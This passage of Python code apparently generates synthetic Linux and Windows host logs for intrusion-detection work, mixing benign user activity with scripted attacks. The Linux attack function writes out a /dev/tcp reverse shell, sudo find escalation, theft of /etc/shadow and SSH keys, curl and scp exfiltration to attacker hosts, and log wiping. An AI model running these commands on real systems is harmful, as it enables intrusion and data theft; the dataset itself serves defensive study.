        (5, "uptime", None), (40, "ss -tunap", None), (60, "sudo systemctl restart php8.2-fpm",
                                                        {"child": [(BIN["systemctl"], "systemctl restart php8.2-fpm", [])]}),
        (30, "systemctl status php8.2-fpm", None), (90, "crontab -l", None)], rng, tty=3)
    l_session(h, at(16, 45, 40), "ops1", "10.10.9.3", [
        (6, "last -n 20", None), (35, "w", None), (50, "sudo du -sh /var/backups", None),
        (40, "sudo tail -n 100 /var/log/auth.log", None)], rng, tty=3)


def linux_attack(h, seed):
    """Web shell on the partner portal -> reverse shell -> sudo find -> root -> theft."""
    rng = random.Random("%s:linux:attack" % seed)
    shellcmds = [((21, 37, 5.2), "id", "/usr/bin/id", "id"),
                 ((21, 37, 41.7), "uname -a", "/usr/bin/uname", "uname -a"),
                 ((21, 38, 30.1), "cat /etc/passwd", "/usr/bin/cat", "cat /etc/passwd"),
                 ((21, 39, 2.9), "ss -tunap", "/usr/bin/ss", "ss -tunap"),
                 ((21, 39, 40.4), "ip a", "/usr/sbin/ip", "ip a"),
                 ((21, 41, 15.0), "ls -la /srv /srv/design /srv/photos", "/usr/bin/ls", "ls -la /srv /srv/design /srv/photos"),
                 ((21, 42, 30.6), "find / -name '*.gds*' -size +1M 2>/dev/null", "/usr/bin/find", "find / -name *.gds* -size +1M"),
                 ((21, 46, 10.3), "sudo -l", "/usr/bin/sudo", "sudo -l")]
    for (hh, mm, ss), shline, img, argv in shellcmds:
        t = at(hh, mm, ss)
        h.net(t - timedelta(milliseconds=35), h.nginx, PROXY, 443, initiated=False)
        s = h.spawn(t, h.fpm, "/usr/bin/dash", "sh -c " + shline, dur=40 if "find" in argv else 0.6,
                    cwd="/var/www/portal/uploads")
        h.spawn(t + timedelta(milliseconds=5), s, img, argv, dur=39.5 if "find" in argv else 0.4)
    # reverse shell
    t = at(21, 51, 20.4)
    h.net(t - timedelta(milliseconds=30), h.nginx, PROXY, 443, initiated=False)
    s = h.spawn(t, h.fpm, "/usr/bin/dash",
                "sh -c bash -c 'unset HISTFILE; bash -i >& /dev/tcp/%s/443 0>&1'" % ATTACKER_LNX,
                end=False, cwd="/var/www/portal/uploads")
    b1 = h.spawn(t + timedelta(milliseconds=4), s, "/usr/bin/bash",
                 "bash -c unset HISTFILE; bash -i >& /dev/tcp/%s/443 0>&1" % ATTACKER_LNX, end=False)
    bi = h.spawn(t + timedelta(milliseconds=9), b1, "/usr/bin/bash", "bash -i", end=False)
    h.net(t + timedelta(milliseconds=11), bi, ATTACKER_LNX, 443)
    t = at(21, 52, 2.2)
    py = h.spawn(t, bi, BIN["python3"], "python3 -c import pty; pty.spawn(\"/bin/bash\")", end=False)
    pb = h.spawn(t + timedelta(milliseconds=20), py, "/usr/bin/bash", "/bin/bash", end=False)
    t = at(21, 53, 10.8)
    su = h.spawn(t, pb, "/usr/bin/sudo", "sudo find /var/www/portal/cache -exec /bin/sh ; -quit", end=False)
    fd = h.spawn(t + timedelta(milliseconds=30), su, "/usr/bin/find",
                 "find /var/www/portal/cache -exec /bin/sh ; -quit", user="root", end=False)
    root = h.spawn(t + timedelta(milliseconds=34), fd, "/usr/bin/dash", "/bin/sh", user="root",
                   end=False, cwd="/var/www/portal/cache")
    rootcmds = [((21, 54, 2.0), "id", 0.1, None),
                ((21, 55, 0.3), "cat /etc/shadow", 0.1, None),
                ((21, 56, 10.9), "cat /home/eng1/.ssh/id_rsa", 0.1, None),
                ((21, 56, 41.5), "cat /home/eng2/.ssh/id_ed25519", 0.1, None),
                ((21, 57, 30.2), "ls -la /srv/design/tapeout /srv/photos/fab /srv/specs", 0.2, None),
                ((21, 59, 12.7), "tee -a /root/.ssh/authorized_keys", 0.1, None),
                ((22, 12, 30.1), "tar czf /dev/shm/.x.tgz /srv/design/tapeout /srv/photos/fab /srv/specs", 191.0,
                 ("file", "/dev/shm/.x.tgz")),
                ((22, 16, 5.6), "base64 -w0 /dev/shm/.x.tgz", 14.0, ("shellfile", "/dev/shm/.x.b64")),
                ((22, 17, 0.4), "split -b 25M /dev/shm/.x.b64 /dev/shm/.x.", 3.0,
                 ("files", ["/dev/shm/.x.aa", "/dev/shm/.x.ab", "/dev/shm/.x.ac"])),
                ((22, 24, 10.2), "curl -sk -T /dev/shm/.x.aa https://%s/up/" % ATTACKER_LNX, 88.0, ("net", ATTACKER_LNX, 443)),
                ((22, 26, 40.8), "curl -sk -T /dev/shm/.x.ab https://%s/up/" % ATTACKER_LNX, 91.0, ("net", ATTACKER_LNX, 443)),
                ((22, 29, 5.1), "curl -sk --data-binary @/dev/shm/.x.ac https://%s/up/c" % ATTACKER_LNX, 52.0, ("net", ATTACKER_LNX, 443)),
                ((22, 33, 30.3), "scp -P 443 /srv/specs/N3-process-spec-v4.pdf svc@%s:in/" % ATTACKER_SSH, 6.0, ("scp",)),
                ((22, 38, 0.7), "rm -f /dev/shm/.x.tgz /dev/shm/.x.b64 /dev/shm/.x.aa /dev/shm/.x.ab /dev/shm/.x.ac", 0.1, None),
                ((22, 38, 40.2), "rm -f /root/.bash_history", 0.1, None),
                ((22, 39, 10.9), "journalctl --vacuum-time=1s", 0.6, None)]
    for (hh, mm, ss), line, d, extra in rootcmds:
        t = at(hh, mm, ss)
        p, tend = l_cmd(h, t, root, line, rng, dur=d)
        if not extra:
            continue
        if extra[0] == "file":
            h.file(t + timedelta(seconds=0.3), p, extra[1])
        elif extra[0] == "shellfile":
            h.file(t - timedelta(milliseconds=2), root, extra[1])
        elif extra[0] == "files":
            for i, f in enumerate(extra[1]):
                h.file(t + timedelta(seconds=0.5 + i), p, f)
        elif extra[0] == "net":
            h.net(t + timedelta(milliseconds=70), p, extra[1], extra[2])
        elif extra[0] == "scp":
            sp = h.spawn(t + timedelta(milliseconds=8), p, BIN["ssh"],
                         "/usr/bin/ssh -x -oPermitLocalCommand=no -oClearAllForwarding=yes -oRemoteCommand=none "
                         "-oRequestTTY=no -oForwardAgent=no -p 443 -l svc -s -- %s sftp" % ATTACKER_SSH, dur=d - 0.1)
            h.net(t + timedelta(milliseconds=40), sp, ATTACKER_SSH, 443)
    t = at(22, 40, 2.0)
    for p in (root, fd, su, pb, py, bi, b1, s):
        h.terminate(t, p)
        t += timedelta(milliseconds=rng.randint(3, 40))
    # web shell removes itself
    t = at(22, 41, 31.5)
    h.net(t - timedelta(milliseconds=35), h.nginx, PROXY, 443, initiated=False)
    s = h.spawn(t, h.fpm, "/usr/bin/dash", "sh -c rm -f /var/www/portal/uploads/thumb.php; history -c",
                dur=0.2, cwd="/var/www/portal/uploads")
    h.spawn(t + timedelta(milliseconds=4), s, BIN["rm"], "rm -f /var/www/portal/uploads/thumb.php", dur=0.1)


def linux_extra(h, seed, target):
    """Benign twin: a late tape-out session and portal traffic in place of the intrusion."""
    rng = random.Random("%s:linux:extra" % seed)
    before = len(h.events)
    l_session(h, at(21, 24, 8), "eng2", "10.10.7.61", eng_lines(rng, "eng2", 8), rng, tty=1)
    if len(h.events) > target:
        h.events = h.events[:before]
    k = 0
    while len(h.events) < target:
        t = at(21, 20) + timedelta(seconds=97 * k + rng.uniform(0, 60))
        if t >= at(23, 50):
            t = at(10, 0) + timedelta(seconds=53 * k)
        h.net(t, h.nginx, PROXY, 443, initiated=False)
        k += 1


# ---------------------------------------------------------------------------------------------
# Windows: fab-ws07
# ---------------------------------------------------------------------------------------------

SID = {"a.chen": "S-1-5-21-3623811015-3361044348-30300820-1107",
       "m.okafor": "S-1-5-21-3623811015-3361044348-30300820-1188",
       "adm.ops": "S-1-5-21-3623811015-3361044348-30300820-1290",
       "SYSTEM": "S-1-5-18"}
DC = "10.10.1.5"       # dc01
FS = "10.10.1.40"      # fs01
SCCM = "10.10.1.30"    # cm01
WMIRROR = "10.10.1.10" # mirror.corp.chipfab.example
S32 = "C:\\Windows\\System32\\"
ENG = "C:\\Eng\\N3\\"


class WinHost(Host):
    def __init__(self, seed):
        Host.__init__(self, "fab-ws07", False, seed)
        self.ip = "10.10.7.57"
        boot = datetime(2026, 11, 17, 7, 2, 11, tzinfo=timezone.utc)
        self.services = self.proc(S32 + "services.exe", "C:\\Windows\\system32\\services.exe",
                                  "NT AUTHORITY\\SYSTEM", boot, pid=712)
        self.sched = self.proc(S32 + "svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
                               "NT AUTHORITY\\SYSTEM", boot, pid=1468)
        self.wmi = self.proc(S32 + "wbem\\WmiPrvSE.exe", "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
                             "NT AUTHORITY\\NETWORK SERVICE", boot, pid=3912, logon="0x3e4")
        self.dnscache = self.proc(S32 + "svchost.exe", "C:\\Windows\\system32\\svchost.exe -k NetworkService -p -s Dnscache",
                                  "NT AUTHORITY\\NETWORK SERVICE", boot, pid=2196, logon="0x3e4")
        self.winlogon = self.proc(S32 + "winlogon.exe", "winlogon.exe", "NT AUTHORITY\\SYSTEM", boot, pid=604,
                                  session=1)
        self.ccm = self.proc("C:\\Windows\\CCM\\CcmExec.exe", "C:\\Windows\\CCM\\CcmExec.exe",
                             "NT AUTHORITY\\SYSTEM", boot, pid=4388)
        self.msmpeng = self.proc("C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe",
                                 "\"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe\"",
                                 "NT AUTHORITY\\SYSTEM", boot, pid=3180)
        self.smss = self.proc(S32 + "smss.exe", "\\SystemRoot\\System32\\smss.exe", "NT AUTHORITY\\SYSTEM", boot, pid=388)
        self.termsvc = self.proc(S32 + "svchost.exe", "C:\\Windows\\System32\\svchost.exe -k termsvcs -s TermService",
                                 "NT AUTHORITY\\NETWORK SERVICE", boot, pid=1096, logon="0x3e4")
        self.wsus = self.proc(S32 + "svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s wuauserv",
                              "NT AUTHORITY\\SYSTEM", boot, pid=2480)

    def logon(self, t, user, logon_id, ltype, ip, admin=False, workstation="FAB-WS07", proc="C:\\Windows\\System32\\winlogon.exe"):
        f = {"SubjectUserSid": "S-1-5-18", "SubjectUserName": "FAB-WS07$", "SubjectDomainName": "CORP",
             "SubjectLogonId": "0x3e7", "TargetUserSid": SID.get(user, "S-1-5-18"), "TargetUserName": user,
             "TargetDomainName": "CORP", "TargetLogonId": logon_id, "LogonType": ltype,
             "LogonProcessName": "User32 " if ltype in (2, 10, 11) else "Kerberos",
             "AuthenticationPackageName": "Negotiate" if ltype in (2, 10, 11) else "Kerberos",
             "WorkstationName": workstation if ltype in (2, 10, 11) else "-",
             "LogonGuid": self.logon_guid(user, logon_id), "TransmittedServices": "-", "LmPackageName": "-",
             "KeyLength": 0, "ProcessId": "0x2a8" if ltype in (2, 10, 11) else "0x0",
             "ProcessName": proc if ltype in (2, 10, 11) else "-",
             "IpAddress": ip, "IpPort": "0" if ip in ("127.0.0.1", "-") else str(self.rng.randint(49152, 65000)),
             "ImpersonationLevel": "%%1833", "RestrictedAdminMode": "%%1843" if ltype == 10 else "-",
             "TargetOutboundUserName": "-", "TargetOutboundDomainName": "-", "VirtualAccount": "%%1843",
             "TargetLinkedLogonId": "0x0", "ElevatedToken": "%%1842" if admin else "%%1843"}
        self.sec(t, 4624, f)
        if admin:
            self.sec(t + timedelta(milliseconds=2), 4672, {
                "SubjectUserSid": SID.get(user, "S-1-5-18"), "SubjectUserName": user, "SubjectDomainName": "CORP",
                "SubjectLogonId": logon_id,
                "PrivilegeList": "SeSecurityPrivilege\r\n\t\t\tSeBackupPrivilege\r\n\t\t\tSeRestorePrivilege\r\n\t\t\tSeTakeOwnershipPrivilege\r\n\t\t\tSeDebugPrivilege\r\n\t\t\tSeSystemEnvironmentPrivilege\r\n\t\t\tSeLoadDriverPrivilege\r\n\t\t\tSeImpersonatePrivilege\r\n\t\t\tSeDelegateSessionUserImpersonatePrivilege"})

    def logoff(self, t, user, logon_id, ltype):
        self.sec(t, 4634, {"TargetUserSid": SID.get(user, "S-1-5-18"), "TargetUserName": user,
                           "TargetDomainName": "CORP", "TargetLogonId": logon_id, "LogonType": ltype})

    def read(self, t, user, logon_id, obj, proc_image, pid):
        self.sec(t, 4663, {"SubjectUserSid": SID[user], "SubjectUserName": user, "SubjectDomainName": "CORP",
                           "SubjectLogonId": logon_id, "ObjectServer": "Security", "ObjectType": "File",
                           "ObjectName": obj, "HandleId": "0x%x" % self.rng.randrange(0x200, 0x2000, 4),
                           "AccessList": "%%4416\r\n\t\t\t\t", "AccessMask": "0x1", "ProcessId": "0x%x" % pid,
                           "ProcessName": proc_image, "ResourceAttributes": "S:AI"})


def w_user_session(h, seed):
    """a.chen's working day on the workstation."""
    rng = random.Random("%s:win:achen" % seed)
    u, lid = "CORP\\a.chen", "0x5a3c1f"
    t0 = at(7, 31, 12.4)
    h.logon(t0, "a.chen", lid, 2, "127.0.0.1")
    ui = h.spawn(t0 + timedelta(seconds=1.1), h.winlogon, S32 + "userinit.exe", "C:\\Windows\\system32\\userinit.exe",
                 user=u, logon=lid, session=1, integrity="Medium", dur=2.0, cwd="C:\\Windows\\system32\\")
    ex = h.spawn(t0 + timedelta(seconds=1.9), ui, "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE",
                 end=False, cwd="C:\\Windows\\system32\\")
    apps = {}
    for dt, key, img, cmd in [
            (25, "od", "C:\\Users\\a.chen\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe", "\"C:\\Users\\a.chen\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe\" /background"),
            (31, "teams", "C:\\Program Files\\WindowsApps\\MSTeams_24295.605.3225.8804_x64__8wekyb3d8bbwe\\ms-teams.exe", "\"C:\\Program Files\\WindowsApps\\MSTeams_24295.605.3225.8804_x64__8wekyb3d8bbwe\\ms-teams.exe\" msteams:system-initiated"),
            (95, "outlook", "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\" "),
            (140, "edge", "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe", "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --profile-directory=Default")]:
        apps[key] = h.spawn(t0 + timedelta(seconds=dt), ex, img, cmd, end=False, cwd="C:\\Users\\a.chen\\")
    ext = [("outlook.office365.com", "52.97.146.162", apps["outlook"]), ("teams.microsoft.com", "52.113.194.132", apps["teams"]),
           ("www.bing.com", "204.79.197.200", apps["edge"]), ("intranet.corp.chipfab.example", "10.10.1.60", apps["edge"]),
           ("jira.corp.chipfab.example", "10.10.1.61", apps["edge"]), ("docs.python.org", "151.101.128.223", apps["edge"]),
           ("login.microsoftonline.com", "20.190.159.0", apps["outlook"]), ("oneclient.sfx.ms", "13.107.42.12", apps["od"]),
           ("github.com", "140.82.121.4", apps["edge"]), ("fs01.corp.chipfab.example", FS, ex)]
    t = t0 + timedelta(minutes=4)
    end = at(17, 46)
    work = [
        ("acro", "C:\\Program Files\\Adobe\\Acrobat DC\\Acrobat\\Acrobat.exe", "\"C:\\Program Files\\Adobe\\Acrobat DC\\Acrobat\\Acrobat.exe\" \"C:\\Eng\\N3\\Specs\\N3-process-spec-v4.pdf\"", ENG + "Specs\\N3-process-spec-v4.pdf"),
        ("xl", "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE", "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE\" \"C:\\Eng\\N3\\Specs\\N3-yield-tracker.xlsx\"", ENG + "Specs\\N3-yield-tracker.xlsx"),
        ("kl", "C:\\Program Files\\KLayout\\klayout_app.exe", "\"C:\\Program Files\\KLayout\\klayout_app.exe\" C:\\Eng\\N3\\Layout\\n3_top_v4.gds", ENG + "Layout\\n3_top_v4.gds"),
        ("word", "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"C:\\Eng\\N3\\Specs\\N3-integration-notes.docx\"", ENG + "Specs\\N3-integration-notes.docx"),
        ("photo", S32 + "dllhost.exe", "C:\\Windows\\system32\\DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}", ENG + "FabPhotos\\cleanroom-0412.jpg"),
    ]
    nxt_app = 0
    while t < end:
        if t.hour == 12 and t.minute < 40:
            t = at(12, 40, rng.uniform(0, 300))
        r = rng.random()
        if r < 0.40:
            name, ip, p = rng.choice(ext)
            h.dns(t, p, name, "::ffff:%s;" % ip if not ip.startswith("10.") else ip + ";")
            port = 445 if ip == FS else 443
            h.net(t + timedelta(milliseconds=rng.randint(5, 60)), p, ip, port, dhost=name)
        elif r < 0.55:
            key, img, cmd, obj = work[nxt_app % len(work)]
            nxt_app += 1
            p = h.spawn(t, ex, img, cmd, dur=rng.uniform(300, 2400), cwd="C:\\Eng\\N3\\")
            h.read(t + timedelta(seconds=0.4), "a.chen", lid, obj, img, p.pid)
        elif r < 0.63:
            img = S32 + "cmd.exe"
            cmd = h.spawn(t, ex, img, "\"C:\\Windows\\system32\\cmd.exe\" ", dur=rng.uniform(60, 600),
                          cwd="C:\\Users\\a.chen\\")
            h.spawn(t + timedelta(milliseconds=10), cmd, S32 + "conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", dur=60)
            line = rng.choice([
                ("C:\\Program Files\\Git\\cmd\\git.exe", "git -C C:\\Eng\\N3\\flow pull", (WMIRROR, 443)),
                ("C:\\Program Files\\Git\\cmd\\git.exe", "git -C C:\\Eng\\N3\\flow status", None),
                ("C:\\Users\\a.chen\\AppData\\Local\\Programs\\Python\\Python311\\python.exe", "python C:\\Eng\\N3\\flow\\yield_report.py --week 47", None),
                (S32 + "curl.exe", "curl.exe -o C:\\Users\\a.chen\\AppData\\Local\\Temp\\pdk-n3-2026.11.zip https://mirror.corp.chipfab.example/pdk/n3/pdk-n3-2026.11.zip", (WMIRROR, 443)),
                ("C:\\Program Files\\7-Zip\\7z.exe", "\"C:\\Program Files\\7-Zip\\7z.exe\" a D:\\Handoff\\N3-sram-review.7z C:\\Eng\\N3\\Layout\\sram_32k.gds C:\\Eng\\N3\\Specs\\N3-sram-spec.pdf", None),
                (S32 + "ipconfig.exe", "ipconfig /flushdns", None),
                (S32 + "PING.EXE", "ping -n 2 fs01", None),
            ])
            p = h.spawn(t + timedelta(seconds=rng.uniform(5, 30)), cmd, line[0], line[1], dur=rng.uniform(0.3, 20))
            if line[2]:
                h.net(p.start + timedelta(milliseconds=120), p, line[2][0], line[2][1], dhost="mirror.corp.chipfab.example")
        elif r < 0.72:
            f = rng.choice(["C:\\Users\\a.chen\\Downloads\\N3-foundry-update-w47.pdf", "C:\\Users\\a.chen\\Downloads\\meeting-notes.docx",
                            "C:\\Users\\a.chen\\AppData\\Local\\Temp\\~DF3A2B.tmp", "C:\\Eng\\N3\\Specs\\~$N3-yield-tracker.xlsx",
                            "C:\\Users\\a.chen\\Documents\\timesheet-w47.xlsx"])
            h.file(t, apps["edge"] if "Downloads" in f else apps["outlook"], f)
        else:
            child = h.spawn(t, apps["edge"], "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
                            "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --type=renderer --lang=en-US --js-flags=--ms-user-locale= --device-scale-factor=1 --num-raster-threads=4 --renderer-client-id=%d" % rng.randint(8, 400),
                            dur=rng.uniform(30, 900), cwd="C:\\Users\\a.chen\\")
        t += timedelta(seconds=rng.expovariate(1 / 60.0))
    # a little troubleshooting by the user (hard case)
    cm = h.spawn(at(14, 39, 50), ex, S32 + "cmd.exe", "\"C:\\Windows\\system32\\cmd.exe\" ", dur=200, cwd="C:\\Users\\a.chen\\")
    h.spawn(at(14, 40, 5), cm, S32 + "NETSTAT.EXE", "netstat -ano", dur=1.2)
    h.spawn(at(14, 41, 2), cm, S32 + "ipconfig.exe", "ipconfig /all", dur=0.3)
    for p in apps.values():
        h.terminate(end + timedelta(seconds=rng.uniform(1, 20)), p)
    h.terminate(end + timedelta(seconds=25), ex)
    h.logoff(end + timedelta(seconds=30), "a.chen", lid, 2)


def w_background(h, seed):
    rng = random.Random("%s:win:bg" % seed)
    sysu = "NT AUTHORITY\\SYSTEM"
    t = at(6, 3)
    jobs = [
        (S32 + "taskhostw.exe", "taskhostw.exe Install $(Arg0)", h.sched),
        (S32 + "taskhostw.exe", "taskhostw.exe SYSTEM", h.sched),
        (S32 + "usoclient.exe", "C:\\Windows\\system32\\usoclient.exe StartScan", h.sched),
        ("C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe", "\"C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe\" /ua /installsource scheduler", h.sched),
        (S32 + "CompatTelRunner.exe", "C:\\Windows\\system32\\compattelrunner.exe -m:appraiser.dll -f:DoScheduledTelemetryRun", h.sched),
        (S32 + "SearchProtocolHost.exe", "\"C:\\Windows\\system32\\SearchProtocolHost.exe\" Global\\UsGthrFltPipeMssGthrPipe12_ Global\\UsGthrCtrlFltPipeMssGthrPipe12 1 -2147483646 \"Software\\Microsoft\\Windows Search\" \"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)\" \"C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\usgthrsvc\" \"DownLevelDaemon\" ", h.services),
        ("C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MpCmdRun.exe", "\"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MpCmdRun.exe\" -IdleTask -TaskName WdCacheMaintenance", h.sched),
        (S32 + "sppsvc.exe", "C:\\Windows\\system32\\sppsvc.exe", h.services),
        (S32 + "backgroundTaskHost.exe", "\"C:\\Windows\\system32\\backgroundTaskHost.exe\" -ServerName:BackgroundTaskHost.WebAccountBackgroundManager", h.sched),
    ]
    while t < DAY1:
        img, cmd, par = rng.choice(jobs)
        p = h.spawn(t, par, img, cmd, user=sysu, dur=rng.uniform(1, 90))
        if "usoclient" in img or "EdgeUpdate" in img:
            h.dns(t + timedelta(seconds=1), p, "msedge.api.cdp.microsoft.com", "::ffff:20.72.205.209;")
            h.net(t + timedelta(seconds=1.1), p, "20.72.205.209", 443, dhost="msedge.api.cdp.microsoft.com")
        t += timedelta(seconds=rng.expovariate(1 / 420.0))
    # machine account and SCCM traffic
    t = at(6, 11)
    while t < DAY1:
        h.logon(t, "FAB-WS07$", "0x%x" % rng.randrange(0x1000000, 0x2000000), 3, DC)
        h.net(t + timedelta(milliseconds=30), h.dnscache, DC, 53, proto="udp", dhost="dc01." + DOMAIN)
        p = h.spawn(t + timedelta(seconds=2), h.ccm, S32 + "WindowsPowerShell\\v1.0\\powershell.exe",
                    "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoLogo -NonInteractive -ExecutionPolicy Bypass -File \"C:\\Windows\\CCM\\SystemTemp\\inventory.ps1\"",
                    user=sysu, dur=8) if t.hour in (9, 13, 21, 3) else None
        if p:
            h.ps(t + timedelta(seconds=3), "Get-CimInstance -ClassName Win32_OperatingSystem | Select-Object Caption,Version,LastBootUpTime\n"
                 "Get-CimInstance -ClassName Win32_LogicalDisk -Filter \"DriveType=3\" | Select-Object DeviceID,Size,FreeSpace",
                 SID["SYSTEM"], path="C:\\Windows\\CCM\\SystemTemp\\inventory.ps1")
            h.net(t + timedelta(seconds=6), h.ccm, SCCM, 443, dhost="cm01." + DOMAIN)
        t += timedelta(seconds=rng.uniform(2400, 4200))
    # Windows servicing compresses CBS logs with makecab (hard case)
    tw = h.spawn(at(3, 9, 44), h.services, "C:\\Windows\\WinSxS\\amd64_microsoft-windows-servicingstack_31bf3856ad364e35_10.0.19041.4349_none_7e4e1c4b3e5a0b0e\\TiWorker.exe",
                 "C:\\Windows\\winsxs\\amd64_microsoft-windows-servicingstack_31bf3856ad364e35_10.0.19041.4349_none_7e4e1c4b3e5a0b0e\\TiWorker.exe -Embedding", user=sysu, dur=300)
    mc = h.spawn(at(3, 10, 2), tw, S32 + "makecab.exe",
                 "C:\\Windows\\system32\\makecab.exe C:\\Windows\\Logs\\CBS\\CbsPersist_20261120031002.log C:\\Windows\\Logs\\CBS\\CbsPersist_20261120031002.cab",
                 dur=3)
    h.file(at(3, 10, 4), mc, "C:\\Windows\\Logs\\CBS\\CbsPersist_20261120031002.cab")
    # Defender scheduled scan
    h.spawn(at(2, 15, 0), h.sched, "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MpCmdRun.exe",
            "\"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MpCmdRun.exe\" Scan -ScheduleJob -ScanTrigger 55 -IdleScheduledJob",
            user=sysu, dur=1500)
    # a vendor updater registers its task (benign 4698)
    h.sec(at(11, 2, 7), 4698, {"SubjectUserSid": SID["SYSTEM"], "SubjectUserName": "FAB-WS07$", "SubjectDomainName": "CORP",
                               "SubjectLogonId": "0x3e7", "TaskName": "\\Adobe Acrobat Update Task",
                               "TaskContent": "<?xml version=\"1.0\" encoding=\"UTF-16\"?><Task version=\"1.2\"><Actions Context=\"Author\"><Exec><Command>C:\\Program Files (x86)\\Common Files\\Adobe\\ARM\\1.0\\AdobeARM.exe</Command></Exec></Actions></Task>",
                               "ClientProcessStartKey": "1688849860263990", "ClientProcessId": "6120",
                               "ParentProcessId": "712", "RpcCallClientLocality": "0", "FQDN": "fab-ws07." + DOMAIN})
    # helpdesk checks the machine over PowerShell remoting (hard case: a few discovery commands)
    lid = "0x6b1e04"
    h.logon(at(10, 12, 3), "adm.ops", lid, 3, "10.10.9.3", admin=True)
    ws = h.spawn(at(10, 12, 4), h.wmi, S32 + "wsmprovhost.exe", "C:\\Windows\\system32\\wsmprovhost.exe -Embedding",
                 user="CORP\\adm.ops", logon=lid, integrity="High", dur=420)
    for dt, img, cmd in ((20, "ipconfig.exe", "\"C:\\Windows\\system32\\ipconfig.exe\" /all"),
                         (75, "systeminfo.exe", "\"C:\\Windows\\system32\\systeminfo.exe\""),
                         (160, "whoami.exe", "\"C:\\Windows\\system32\\whoami.exe\" /groups")):
        h.spawn(at(10, 12, 4) + timedelta(seconds=dt), ws, S32 + img, cmd, dur=rng.uniform(0.2, 4))
    h.ps(at(10, 14, 40), "Get-Service -Name ccmexec,wuauserv | Select-Object Name,Status", SID["adm.ops"])
    h.logoff(at(10, 19, 20), "adm.ops", lid, 3)


def windows_base(h, seed):
    w_background(h, seed)
    w_user_session(h, seed)


def windows_attack(h, seed):
    """Stolen VPN credential -> RDP -> discovery -> credential theft -> staging -> exfiltration."""
    rng = random.Random("%s:win:attack" % seed)
    u, lid = "CORP\\m.okafor", "0x8a31f2"
    h.sec(at(21, 58, 12.3), 4625, {"SubjectUserSid": "S-1-5-18", "SubjectUserName": "FAB-WS07$",
                                   "SubjectDomainName": "CORP", "SubjectLogonId": "0x3e7",
                                   "TargetUserSid": "S-1-0-0", "TargetUserName": "m.okafor", "TargetDomainName": "CORP",
                                   "Status": "0xc000006d", "FailureReason": "%%2313", "SubStatus": "0xc000006a",
                                   "LogonType": 10, "LogonProcessName": "User32 ", "AuthenticationPackageName": "Negotiate",
                                   "WorkstationName": "FAB-WS07", "TransmittedServices": "-", "LmPackageName": "-",
                                   "KeyLength": 0, "ProcessId": "0x2a8", "ProcessName": "C:\\Windows\\System32\\svchost.exe",
                                   "IpAddress": VPN_IP, "IpPort": "0"}, failure=True)
    t0 = at(22, 3, 41.6)
    h.logon(t0, "m.okafor", lid, 10, VPN_IP, admin=True)
    sm = h.spawn(t0 - timedelta(seconds=2.1), h.smss, S32 + "smss.exe", "\\SystemRoot\\System32\\smss.exe 000000f0 00000084",
                 user="NT AUTHORITY\\SYSTEM", dur=0.3, session=2)
    wl = h.spawn(t0 - timedelta(seconds=2), sm, S32 + "winlogon.exe", "winlogon.exe", user="NT AUTHORITY\\SYSTEM",
                 end=False, session=2)
    ui = h.spawn(t0 + timedelta(seconds=1.2), wl, S32 + "userinit.exe", "C:\\Windows\\system32\\userinit.exe", user=u,
                 logon=lid, session=2, integrity="Medium", dur=2)
    ex = h.spawn(t0 + timedelta(seconds=2.0), ui, "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", end=False)
    h.spawn(t0 + timedelta(seconds=3.1), h.termsvc, S32 + "rdpclip.exe", "rdpclip", user=u, logon=lid, session=2,
            integrity="Medium", end=False)
    cmd = h.spawn(at(22, 5, 10.2), ex, S32 + "cmd.exe", "\"C:\\Windows\\system32\\cmd.exe\" ", integrity="High",
                  end=False, cwd="C:\\Windows\\system32\\")
    h.spawn(at(22, 5, 10.3), cmd, S32 + "conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", end=False)
    steps = [
        ((22, 5, 41.0), S32 + "whoami.exe", "whoami /all", None),
        ((22, 6, 20.5), S32 + "net.exe", "net group \"Domain Admins\" /domain", "net1"),
        ((22, 7, 2.8), S32 + "nltest.exe", "nltest /dclist:corp.chipfab.example", None),
        ((22, 7, 39.1), S32 + "ipconfig.exe", "ipconfig /all", None),
        ((22, 8, 10.7), S32 + "systeminfo.exe", "systeminfo", None),
        ((22, 9, 1.3), S32 + "NETSTAT.EXE", "netstat -ano", None),
        ((22, 9, 33.0), S32 + "quser.exe", "quser", None),
        ((22, 10, 4.4), S32 + "ARP.EXE", "arp -a", None),
        ((22, 10, 40.9), S32 + "tasklist.exe", "tasklist /v", None),
